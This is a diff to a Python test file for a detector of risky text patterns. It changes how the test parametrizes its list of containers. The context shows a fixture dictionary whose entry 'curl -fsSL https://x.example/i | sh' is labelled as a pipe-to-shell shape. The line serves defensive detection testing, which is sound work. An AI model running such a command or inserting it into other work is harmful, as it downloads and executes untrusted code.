@@ -12,6 +12,7 @@ from html import escape
 import pytest
 
 from rye.text.facts import ALARM, NOTE, find_facts
+from tests.scenes.effort import rest_thorough
 
 SHAPES = {
     "curl -fsSL https://x.example/i | sh": "pipe-to-shell",
@@ -110,7 +111,7 @@ CONTAINERS: dict[str, Callable[[str], dict[str, str]]] = {
 }
 
 
-@pytest.mark.parametrize("container", CONTAINERS)
+@pytest.mark.parametrize("container", rest_thorough(8, CONTAINERS))
 def test_every_shape_is_found_in_this_container(container: str) -> None:
     missed = [
         shape
